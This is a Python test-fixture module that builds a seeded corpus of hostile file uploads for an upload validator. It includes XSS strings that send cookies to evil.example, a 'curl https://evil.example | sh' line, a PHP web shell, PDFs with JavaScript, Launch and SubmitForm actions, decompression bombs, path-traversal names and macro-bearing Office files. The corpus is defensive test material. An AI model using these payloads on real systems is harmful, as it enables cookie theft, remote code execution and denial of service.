# This file is part of Büro 365 Offers.  See the README for licence terms.
"""A corpus of hostile uploads, made on the fly from a fixed seed.

Every item is a file an attacker (or a broken tool) could upload to an
offer and that must be refused: types renamed to an allowed extension,
polyglots (a file of two types at once), decompression bombs, PDFs with
active content (also hidden in object streams, compressed or escaped),
HTML in videos, SVG with script, traversal names, empty and cut-off
files, Office files with macros or unsafe parts.  The real formats come
from media_samples; what is added is written by hand following the
specifications (ISO 32000 for PDF, PNG, JFIF, RIFF, EBML, ZIP)."""
import io
import random
import struct
import zipfile
import zlib

from PIL import Image

from . import media_samples as samples

__all__ = ['corpus', 'SEED']

SEED = 20261211

# The extensions the module accepts (filecheck.FORMATS).
EXTENSIONS = [
    '.png', '.jpg', '.jpeg', '.webp', '.mp4', '.mov', '.avi', '.webm',
    '.pdf', '.odt', '.doc', '.docx', '.xlsx']
# What each real sample may be named (its own extensions).
OWN_EXTENSIONS = {
    'png': {'.png'}, 'jpeg': {'.jpg', '.jpeg'}, 'webp': {'.webp'},
    'mp4': {'.mp4', '.mov'}, 'mov': {'.mov'}, 'avi': {'.avi'},
    'webm': {'.webm'}, 'pdf': {'.pdf'}, 'odt': {'.odt'}, 'doc': {'.doc'},
    'docx': {'.docx'}, 'xlsx': {'.xlsx'},
    }
SCRIPTS = [
    '<script>alert(document.cookie)</script>',
    '<html><body onload="alert(1)">',
    '<svg onload="fetch(\'//evil.example/\'+document.cookie)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<!DOCTYPE html><html><script src="//evil.example/x.js"></script>',
    '<img src=x onerror=alert(1)>',
    '<object data="javascript:alert(1)"></object>',
    '<a href="javascript:alert(1)">Angebot</a>',
    ]
JAVASCRIPT = [
    'app.alert("Angebot");',
    'this.exportDataObject({cName: "x", nLaunch: 2});',
    'app.launchURL("https://evil.example/", true);',
    'var x = util.printd("yyyy", new Date()); this.submitForm("http://'
    'evil.example/?" + x);',
    ]


def corpus(seed=SEED):
    """Return the list of (category, name, data) of the hostile uploads.

    The same seed gives the same corpus."""
    rng = random.Random(seed)
    valid = {
        'png': samples.png(size=(64, 48)),
        'jpeg': samples.jpeg(size=(64, 48)),
        'webp': samples.webp(size=(64, 48)),
        'mp4': samples.mp4(),
        'mov': samples.mov(),
        'avi': samples.avi(),
        'webm': samples.webm(),
        'pdf': samples.pdf(),
        'odt': samples.odt(),
        'doc': samples.doc(),
        'docx': samples.docx(),
        'xlsx': samples.xlsx(),
        }
    items = []
    for make in [renamed, foreign_types, polyglots, bombs, active_pdfs,
            markup_in_videos, svg_scripts, traversal_names, empty_and_magic,
            truncated, office_tricks]:
        items.extend(make(rng, valid))
    return items


# --- renamed types ------------------------------------------------------

def renamed(rng, valid):
    "Each real file under every allowed extension that is not its own."
    for format_, data in valid.items():
        for extension in EXTENSIONS:
            if extension not in OWN_EXTENSIONS[format_]:
                yield 'renamed', f'Datei_{format_}{extension}', data


FOREIGN = {
    'html': b'<!DOCTYPE html><html><body><script>alert(1)</script>',
    'exe': b'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff'
    + bytes(48) + b'PE\x00\x00' + bytes(200),
    'elf': b'\x7fELF\x02\x01\x01' + bytes(200),
    'shell': b'#!/bin/sh\ncurl https://evil.example | sh\n',
    'php': b'<?php system($_GET["c"]); ?>',
    'gif': b'GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!'
    b'\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00'
    b'\x02\x02D\x01\x00;',
    'bmp': None, 'tiff': None, 'ico': None,
    'heic': None, 'm4a': None, 'mkv': None, 'xls': None,
    'zip': None, 'jar': None,
    'rar': b'Rar!\x1a\x07\x01\x00' + bytes(64),
    '7z': b"7z\xbc\xaf'\x1c\x00\x04" + bytes(64),
    'gzip': None,
    'postscript': b'%!PS-Adobe-3.0\n/Helvetica findfont 12 scalefont\n',
    'rtf': b'{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}',
    'eml': b'From: a@evil.example\r\nSubject: x\r\n\r\nHallo',
    'js': b'fetch("//evil.example/"+document.cookie)',
    'swf': b'FWS\x0a' + bytes(60),
    'wasm': b'\x00asm\x01\x00\x00\x00' + bytes(20),
    'lnk': b'L\x00\x00\x00\x01\x14\x02\x00' + bytes(70),
    }


def _foreign(kind):
    data = FOREIGN[kind]
    if data is not None:
        return data
    if kind in {'bmp', 'tiff', 'ico'}:
        output = io.BytesIO()
        Image.new('RGB', (32, 32), (200, 30, 30)).save(
            output, {'bmp': 'BMP', 'tiff': 'TIFF', 'ico': 'ICO'}[kind])
        return output.getvalue()
    if kind == 'heic':
        return samples._iso_media(b'heic', handler=b'pict')
    if kind == 'm4a':
        return samples.m4a()
    if kind == 'mkv':
        return samples.mkv()
    if kind == 'xls':
        return samples.xls()
    if kind == 'zip':
        return samples.zip_of([('liesmich.txt', 'Hallo')])
    if kind == 'jar':
        return samples.zip_of([
                ('META-INF/MANIFEST.MF', 'Main-Class: Evil\n'),
                ('Evil.class', b'\xca\xfe\xba\xbe' + bytes(40))])
    if kind == 'gzip':
        return b'\x1f\x8b\x08\x00' + bytes(6) + zlib.compress(b'x' * 100)
    raise ValueError(kind)


def foreign_types(rng, valid):
    "Files of types the module refuses, named as one it accepts."
    for kind in FOREIGN:
        data = _foreign(kind)
        for extension in rng.sample(EXTENSIONS, 3):
            yield 'renamed', f'{kind}{extension}', data


# --- polyglots ----------------------------------------------------------

def _png_chunk(chunk_type, payload):
    return (struct.pack('>I', len(payload)) + chunk_type + payload
        + struct.pack('>I', zlib.crc32(chunk_type + payload)))


def png_with_text(text):
    "A valid PNG whose tEXt chunk, right after IHDR, holds text."
    data = samples.png(size=(64, 48))
    ihdr_end = 8 + 8 + 13 + 4
    chunk = _png_chunk(b'tEXt', b'Comment\x00' + text.encode())
    return data[:ihdr_end] + chunk + data[ihdr_end:]


def jpeg_with_comment(text):
    "A valid JPEG with a COM segment right after SOI."
    data = samples.jpeg(size=(64, 48))
    payload = text.encode()
    return (data[:2] + b'\xff\xfe' + struct.pack('>H', len(payload) + 2)
        + payload + data[2:])


def webp_with_xmp(text):
    "A WEBP (extended format) with an XMP chunk before the image."
    data = samples.webp(size=(64, 48))
    image = data[12:]
    payload = text.encode()
    if len(payload) % 2:
        payload += b' '
    vp8x = b'VP8X' + struct.pack('<I', 10) + bytes([0x04]) + bytes(3) + (
        63).to_bytes(3, 'little') + (47).to_bytes(3, 'little')
    xmp = b'XMP ' + struct.pack('<I', len(payload)) + payload
    body = b'WEBP' + vp8x + xmp + image
    return b'RIFF' + struct.pack('<I', len(body)) + body


def polyglots(rng, valid):
    "Files that are two types at once."
    for number, script in enumerate(SCRIPTS):
        yield 'polyglot', f'Foto{number}.png', png_with_text(script)
        yield 'polyglot', f'Foto{number}.jpg', jpeg_with_comment(script)
        yield 'polyglot', f'Foto{number}.webp', webp_with_xmp(script)
        yield 'polyglot', f'Plan{number}.pdf', (
            b'%PDF-1.4\n%' + script.encode() + b'\n' + valid['pdf'][9:])
    archive = _foreign('jar')
    # (not Office files: they may embed whole archives, e.g. a chart)
    for format_ in ['png', 'jpeg', 'webp', 'pdf', 'mp4', 'avi', 'webm']:
        extension = sorted(OWN_EXTENSIONS[format_])[0]
        data = valid[format_]
        if format_ in {'png', 'webp', 'avi'}:
            # the archive inside the container's last chunk, sizes right
            yield 'polyglot', f'Archiv_in_{format_}{extension}', (
                _append_in_container(format_, data, archive))
        yield 'polyglot', f'Archiv_hinter_{format_}{extension}', (
            data + archive)


def _append_in_container(format_, data, payload):
    if format_ == 'png':
        return data[:-12] + _png_chunk(b'zIPd', payload) + data[-12:]
    # RIFF (WEBP, AVI): a JUNK chunk at the end, the RIFF size updated
    if len(payload) % 2:
        payload += b'\0'
    body = data[8:] + b'JUNK' + struct.pack('<I', len(payload)) + payload
    return b'RIFF' + struct.pack('<I', len(body)) + body


# --- bombs --------------------------------------------------------------

def png_header(width, height):
    "A PNG claiming width × height pixels, with a tiny compressed body."
    ihdr = _png_chunk(b'IHDR', struct.pack(
            '>IIBBBBB', width, height, 8, 2, 0, 0, 0))
    idat = _png_chunk(b'IDAT', zlib.compress(bytes(4096), 9))
    return b'\x89PNG\r\n\x1a\n' + ihdr + idat + _png_chunk(b'IEND', b'')


def jpeg_header(width, height):
    "A JPEG start claiming width × height pixels."
    data = samples.jpeg(size=(16, 16))
    sof = data.find(b'\xff\xc0')
    return (data[:sof + 5] + struct.pack('>HH', height, width)
        + data[sof + 9:])


def pdf_stream_bomb(megabytes):
    "A PDF whose object stream inflates to megabytes of zeros."
    padding = b' ' * (megabytes * 1024 * 1024)
    return pdf_document(use_object_stream=True, padding=padding)


def bombs(rng, valid):
    yield 'bomb', 'Riesig.png', samples.bomb_png(side=12000)
    for width, height in [(100_000, 100_000), (2**31 - 1, 1),
            (60_000, 60_000)]:
        yield 'bomb', f'Riesig_{width}x{height}.png', png_header(
            width, height)
    for width, height in [(65_000, 65_000), (40_000, 30_000)]:
        yield 'bomb', f'Riesig_{width}x{height}.jpg', jpeg_header(
            width, height)
    yield 'bomb', 'Packbombe.docx', samples.zip_bomb(megabytes=20)
    yield 'bomb', 'Viele_Teile.docx', samples.docx(extra=[
            (f'word/media/{i}.bin', b'') for i in range(1200)])
    yield 'bomb', 'Packbombe.xlsx', _zip_bomb('xl/worksheets/sheet1.xml')
    yield 'bomb', 'Packbombe.odt', _zip_bomb('content.xml', odt=True)
    yield 'bomb', 'Objektbombe.pdf', pdf_stream_bomb(80)
    yield 'bomb', 'Verschachtelt.pdf', pdf_document(
        extra_objects=[b'[' * 50_000 + b']' * 50_000])


def _zip_bomb(part, odt=False, megabytes=30):
    output = io.BytesIO()
    with zipfile.ZipFile(output, 'w', zipfile.ZIP_DEFLATED) as archive:
        if odt:
            archive.writestr(
                'mimetype', 'application/vnd.oasis.opendocument.text',
                zipfile.ZIP_STORED)
        else:
            archive.writestr('[Content_Types].xml', '<Types/>')
        with archive.open(part, 'w') as stream:
            block = b'\0' * (1024 * 1024)
            for _ in range(megabytes):
                stream.write(block)
    return output.getvalue()


# --- PDFs with active content --------------------------------------------

def pdf_document(catalog=b'', page=b'', extra_objects=(),
        use_object_stream=False, padding=b'', encode_names=False):
    """A one-page PDF; catalog and page are added to those dictionaries,
    extra_objects become objects 6, 7, … (refer to them by number).

    With use_object_stream, every dictionary is compressed into an object
    stream (PDF 1.5) with a cross-reference stream, as modern writers do;
    padding is added to that stream (for bombs)."""
    content = b'BT /F1 24 Tf 72 720 Td (Angebot) Tj ET'
    objects = [
        b'<< /Type /Catalog /Pages 2 0 R ' + catalog + b'>>',
        b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] '
        b'/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R '
        + page + b'>>',
        b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
        None,  # the content stream
        *extra_objects,
        ]
    if encode_names:
        objects = [o and _escape_names(o) for o in objects]
    stream = (b'<< /Length %d >>\nstream\n' % len(content) + content
        + b'\nendstream')
    if not use_object_stream:
        return samples.pdf_file(
            [body or stream for body in objects], version=b'1.5')
    output = io.BytesIO()
    output.write(b'%PDF-1.5\n%\xe2\xe3\xcf\xd3\n')
    # dictionaries in an object stream; streams (the content, scripts,
    # embedded files) cannot be in one and stay outside, as does the
    # object stream itself
    outside = {n: body or stream for n, body in enumerate(objects, 1)
        if not body or b'\nstream\n' in body}
    inside = [(n, body) for n, body in enumerate(objects, 1)
        if n not in outside]
    header, bodies = [], b''
    for number, body in inside:
        header.append(b'%d %d' % (number, len(bodies)))
        bodies += body + b'\n'
    header = b' '.join(header) + b'\n'
    packed = zlib.compress(header + bodies + padding, 9)
    objstm_number = len(objects) + 1
    xref_number = objstm_number + 1
    offsets = {}
    for number, body in outside.items():
        offsets[number] = output.tell()
        output.write(b'%d 0 obj\n' % number + body + b'\nendobj\n')
    offsets[objstm_number] = output.tell()
    output.write(
        b'%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode '
        b'/Length %d >>\nstream\n' % (
            objstm_number, len(inside), len(header), len(packed))
        + packed + b'\nendstream\nendobj\n')
    offsets[xref_number] = output.tell()
    rows = [struct.pack('>BIH', 0, 0, 65535)]
    index = {n: i for i, (n, _) in enumerate(inside)}
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows.append(struct.pack('>BIH', 1, offsets[number], 0))
        else:
            rows.append(struct.pack('>BIH', 2, objstm_number, index[number]))
    table = zlib.compress(b''.join(rows))
    output.write(
        b'%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R '
        b'/Filter /FlateDecode /Length %d >>\nstream\n' % (
            xref_number, xref_number + 1, len(table))
        + table + b'\nendstream\nendobj\n')
    output.write(b'startxref\n%d\n%%%%EOF\n' % offsets[xref_number])
    return output.getvalue()


def _escape_names(body):
    "Write the names of active content with #xx escapes, as PDF allows."
    for name in [b'/JavaScript', b'/JS', b'/Launch', b'/EmbeddedFiles',
            b'/OpenAction', b'/SubmitForm', b'/XFA', b'/ImportData',
            b'/GoToR', b'/GoToE', b'/Rendition', b'/RichMedia',
            b'/FileAttachment', b'/3D', b'/URI', b'/EF']:
        escaped = b'/' + b''.join(
            b'#%02X' % c if i % 2 else bytes([c])
            for i, c in enumerate(name[1:]))
        body = body.replace(name + b' ', escaped + b' ')
    return body


def _pdf_string(text):
    return b'(' + text.encode('latin-1').replace(b'\\', b'\\\\').replace(
        b'(', b'\\(').replace(b')', b'\\)') + b')'


def incremental_update(base, new_catalog):
    "base with an appended update that replaces its catalog (object 1)."
    previous = int(base.rsplit(b'startxref', 1)[1].split()[0])
    offset = len(base)
    body = b'1 0 obj\n' + new_catalog + b'\nendobj\n'
    xref = offset + len(body)
    return (base + body + b'xref\n0 1\n0000000000 65535 f \n1 1\n'
        + b'%010d 00000 n \n' % offset
        + b'trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n' % previous
        + b'startxref\n%d\n%%%%EOF\n' % xref)


def active_pdfs(rng, valid):
    "PDFs that run scripts, launch programs, carry files or send data."
    variants = []
    for code in JAVASCRIPT:
        js = _pdf_string(code)
        variants += [
            ('OpenAction-JavaScript', dict(
                    catalog=b'/OpenAction << /S /JavaScript /JS ' + js
                    + b' >> ')),
            ('OpenAction-JS-stream', dict(
                    catalog=b'/OpenAction 6 0 R ', extra_objects=[
                        b'<< /S /JavaScript /JS 7 0 R >>',
                        b'<< /Length %d >>\nstream\n' % len(code)
                        + code.encode() + b'\nendstream'])),
            ('Names-JavaScript', dict(
                    catalog=b'/Names << /JavaScript << /Names [(a) 6 0 R]'
                    b' >> >> ', extra_objects=[
                        b'<< /S /JavaScript /JS ' + js + b' >>'])),
            ('Page-AA', dict(
                    page=b'/AA << /O << /S /JavaScript /JS ' + js
                    + b' >> >> ')),
            ('Link-JavaScript', dict(
                    page=b'/Annots [6 0 R] ', extra_objects=[
                        b'<< /Type /Annot /Subtype /Link /Rect [0 0 595 '
                        b'842] /A << /S /JavaScript /JS ' + js + b' >> >>'])),
            ('unreferenced-JS', dict(extra_objects=[
                        b'<< /S /JavaScript /JS ' + js + b' >>'])),
            ]
    program = rng.choice(['cmd.exe', 'powershell.exe', '/bin/sh',
            'calc.exe'])
    variants += [
        ('OpenAction-Launch', dict(
                catalog=b'/OpenAction << /S /Launch /F ' + _pdf_string(
                    program) + b' /Win << /F (cmd.exe) /P (/c calc) >> >> ')),
        ('Link-Launch', dict(
                page=b'/Annots [6 0 R] ', extra_objects=[
                    b'<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] '
                    b'/A << /S /Launch /F (evil.exe) >> >>'])),
        ('EmbeddedFiles', dict(
                catalog=b'/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R]'
                b' >> >> ', extra_objects=[
                    b'<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
                    b'<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ'
                    b'\nendstream'])),
        ('FileAttachment', dict(
                page=b'/Annots [6 0 R] ', extra_objects=[
                    b'<< /Type /Annot /Subtype /FileAttachment /Rect '
                    b'[0 0 9 9] /FS (a.exe) >>'])),
        ('SubmitForm', dict(
                catalog=b'/OpenAction << /S /SubmitForm /F << /FS /URL /F '
                b'(https://evil.example/) >> >> ')),
        ('ImportData', dict(
                catalog=b'/OpenAction << /S /ImportData /F (data.fdf) >> ')),
        ('GoToR', dict(
                catalog=b'/OpenAction << /S /GoToR /F (\\\\\\\\evil.example'
                b'\\\\share\\\\x.pdf) /D [0 /Fit] >> ')),
        ('GoToE', dict(
                catalog=b'/OpenAction << /S /GoToE /T << /R /C /N (a) >> '
                b'>> ')),
        ('XFA', dict(
                catalog=b'/AcroForm << /Fields [] /XFA 6 0 R >> ',
                extra_objects=[b'<< /Length 9 >>\nstream\n<xdp:xdp>'
                    b'\nendstream'])),
        ('RichMedia', dict(
                page=b'/Annots [6 0 R] ', extra_objects=[
                    b'<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] '
                    b'>>'])),
        ('3D', dict(
                page=b'/Annots [6 0 R] ', extra_objects=[
                    b'<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>'])),
        ('Rendition', dict(
                catalog=b'/OpenAction << /S /Rendition /OP 4 /JS (x) >> ')),
        ('URI-javascript', dict(
                page=b'/Annots [6 0 R] ', extra_objects=[
                    b'<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] '
                    b'/A << /S /URI /URI (javascript:alert\\(1\\)) >> >>'])),
        ('URI-file', dict(
                page=b'/Annots [6 0 R] ', extra_objects=[
                    b'<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] '
                    b'/A << /S /URI /URI (file:///C:/Windows/System32/cmd.exe)'
                    b' >> >>'])),
        ]
    for label, values in variants:
        slug = label.replace('-', '_')
        yield 'active-pdf', f'{slug}.pdf', pdf_document(**values)
        yield 'active-pdf', f'{slug}_objstm.pdf', pdf_document(
            use_object_stream=True, **values)
        yield 'active-pdf', f'{slug}_escaped.pdf', pdf_document(
            encode_names=True, **values)
    js = _pdf_string(rng.choice(JAVASCRIPT))
    yield 'active-pdf', 'Nachtrag.pdf', incremental_update(
        valid['pdf'], b'<< /Type /Catalog /Pages 2 0 R /OpenAction << '
        b'/S /JavaScript /JS ' + js + b' >> >>')
    for password in ['geheim', 'Umzug2026']:
        yield 'active-pdf', f'Verschluesselt_{password}.pdf', (
            encrypted_pdf(password))


def encrypted_pdf(password):
    "A PDF that opens only with password: its content cannot be checked."
    from pypdf import PdfWriter
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(password, algorithm='RC4-128')
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


# --- HTML in videos -----------------------------------------------------

def iso_media_with(data, payload):
    "An MP4/MOV with payload in a free box right after ftyp."
    ftyp_size, = struct.unpack('>I', data[:4])
    free = struct.pack('>I4s', 8 + len(payload), b'free') + payload
    return data[:ftyp_size] + free + data[ftyp_size:]


def markup_in_videos(rng, valid):
    for number, script in enumerate(SCRIPTS):
        payload = script.encode()
        for format_ in ['mp4', 'mov']:
            yield 'html-in-video', f'Film{number}.{format_}', (
                iso_media_with(valid[format_], payload))
        # AVI: a JUNK chunk before the header list
        data = valid['avi']
        junk = payload + (b' ' if len(payload) % 2 else b'')
        body = (data[8:12] + b'JUNK' + struct.pack('<I', len(junk)) + junk
            + data[12:])
        yield 'html-in-video', f'Film{number}.avi', (
            b'RIFF' + struct.pack('<I', len(body)) + body)
        # WEBM: an EBML Void element (0xEC) inside the header
        data = valid['webm']
        header_id, size_byte = data[:4], data[4]
        void = b'\xec' + samples._ebml_size(len(payload)) + payload
        header_body = data[5:5 + (size_byte & 0x7F)]
        new_header = header_id + samples._ebml_size(
            len(header_body) + len(void)) + header_body + void
        yield 'html-in-video', f'Film{number}.webm', (
            new_header + data[5 + (size_byte & 0x7F):])
        # HTML first, then the video (sniffed as a page)
        yield 'html-in-video', f'Seite{number}.mp4', payload + valid['mp4']


# --- SVG ----------------------------------------------------------------

SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
    b'onload="alert(document.domain)"><script>alert(1)</script>'
    b'<rect width="10" height="10"/></svg>')


def svg_scripts(rng, valid):
    for extension in ['.svg', '.png', '.jpg', '.jpeg', '.webp', '.pdf',
            '.mp4', '.svgz', '.xml', '.html']:
        yield 'svg', f'Logo{extension}', SVG
    yield 'svg', 'Logo_gz.png', zlib.compress(SVG)


# --- names --------------------------------------------------------------

def traversal_names(rng, valid):
    "Paths and tricks in names, with content that fits none of them."
    names = [
        '../../../../demo.sqlite', 'xx/../../../../demo.sqlite',
        '..\\..\\..\\boot.ini', '/etc/passwd', 'C:\\Windows\\win.ini',
        '....//....//etc/shadow', '%2e%2e%2f%2e%2e%2fdemo.sqlite',
        'bild.png/../../index.html', 'rechnung.pdf\x00.html',
        'angebot\u202efdp.exe', '..', '.', '   ', '\x00\x01\x02',
        '\u200b\u200f', 'CON.', '../.htaccess', '~/.ssh/authorized_keys',
        'file:///etc/passwd', 'https://evil.example/x.php',
        ]
    contents = [FOREIGN['html'], FOREIGN['exe'], FOREIGN['shell']]
    for name in names:
        yield 'traversal', name, rng.choice(contents)
    # an allowed extension behind the path, hostile content
    for name in ['../../demo.png', '..\\..\\x.pdf', '/var/www/a.docx',
            '../../../tmp/v.mp4']:
        yield 'traversal', name, FOREIGN['php']


# --- empty, magic only, truncated ---------------------------------------

MAGIC = {
    '.png': b'\x89PNG\r\n\x1a\n', '.jpg': b'\xff\xd8\xff\xe0',
    '.webp': b'RIFF\x00\x00\x00\x00WEBP', '.mp4': b'\x00\x00\x00\x18ftyp',
    '.mov': b'\x00\x00\x00\x14ftypqt  ', '.avi': b'RIFF\x04\x00\x00\x00AVI ',
    '.webm': b'\x1aE\xdf\xa3', '.pdf': b'%PDF-1.7', '.odt': b'PK\x03\x04',
    '.doc': b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', '.docx': b'PK\x03\x04',
    '.xlsx': b'PK\x05\x06' + bytes(18), '.jpeg': b'\xff\xd8',
    }


def empty_and_magic(rng, valid):
    for extension in EXTENSIONS:
        yield 'empty', f'leer{extension}', b''
        yield 'empty', f'null{extension}', b'\0' * rng.randint(1, 4096)
        yield 'empty', f'magie{extension}', MAGIC[extension]


def truncated(rng, valid):
    "Each real file cut at random points (as an interrupted upload)."
    for format_, data in valid.items():
        extension = sorted(OWN_EXTENSIONS[format_])[0]
        for cut in sorted(rng.sample(range(1, len(data) - 1), 4)):
            yield 'truncated', f'abgebrochen_{cut}_{format_}{extension}', (
                data[:cut])


# --- Office -------------------------------------------------------------

def office_tricks(rng, valid):
    yield 'office', 'Makro.docx', samples.docx(extra=[
            ('word/vbaProject.bin', samples.doc())])
    yield 'office', 'Makro.xlsx', _with_part(
        valid['xlsx'], 'xl/vbaProject.bin', b'\xd0\xcf\x11\xe0')
    yield 'office', 'Makro.odt', _with_part(
        valid['odt'], 'Basic/Standard/Module1.xml', '<script/>')
    yield 'office', 'Skript.odt', _with_part(
        valid['odt'], 'Scripts/python/evil.py', 'import os')
    yield 'office', 'Makro.doc', _cfb_with_macros()
    for part in ['../../evil.sh', '/etc/cron.d/evil', 'C:/Windows/evil.dll',
            'word/\x1bhidden.xml', '..\\..\\evil.bat',
            'word/\u202eslm.exe']:
        yield 'office', 'Pfad.docx', samples.docx(extra=[(part, 'x')])
    # zipfile cuts names at a NUL when writing: patch it in afterwards
    yield 'office', 'Nullbyte.docx', samples.docx(extra=[
            ('word/Xhidden.xml', 'x')]).replace(
        b'word/Xhidden', b'word/\x00hidden')
    yield 'office', 'Nur_Zip.docx', samples.zip_of([('a.txt', 'x')])
    yield 'office', 'Falsch.odt', samples.odt(mimetype='application/x-evil')
    yield 'office', 'Verschluesselt.docx', _zip_flag_encrypted(
        valid['docx'])
    yield 'office', 'Kaputt.docx', _zip_bad_crc(valid['docx'])
    yield 'office', 'Methode.docx', _zip_unknown_method(valid['docx'])
    yield 'office', 'Verschluesselt.doc', samples._cfb(
        'EncryptedPackage', b'x' * 100)


def _with_part(archive, name, content):
    source = zipfile.ZipFile(io.BytesIO(archive))
    parts = [(i.filename, source.read(i)) for i in source.infolist()]
    return samples.zip_of(parts + [(name, content)])


def _cfb_with_macros():
    "A Word 97 file whose second directory entry is a Macros storage."
    data = bytearray(samples.doc())
    directory = 1024  # sector 1
    name = 'Macros\0'.encode('utf-16-le')
    entry = directory + 128 * 2
    data[entry:entry + 64] = name.ljust(64, b'\0')
    data[entry + 64:entry + 66] = struct.pack('<H', len(name))
    data[entry + 66] = 1  # storage
    # make the root's child tree point at it as the WordDocument's sibling
    data[directory + 128 + 68:directory + 128 + 72] = struct.pack('<I', 2)
    return bytes(data)


def _zip_patch(archive, offset_in_header, value, fmt='<H'):
    "Patch a field of every local and central header of archive."
    data = bytearray(archive)
    for signature, offset in [(b'PK\x03\x04', offset_in_header),
            (b'PK\x01\x02', offset_in_header + 2)]:
        start = 0
        while True:
            start = data.find(signature, start)
            if start < 0:
                break
            struct.pack_into(fmt, data, start + offset, value)
            start += 4
    return bytes(data)


def _zip_flag_encrypted(archive):
    return _zip_patch(archive, 6, 0x1)


def _zip_unknown_method(archive):
    return _zip_patch(archive, 8, 99)


def _zip_bad_crc(archive):
    return _zip_patch(archive, 14, 0xDEADBEEF, fmt='<I')
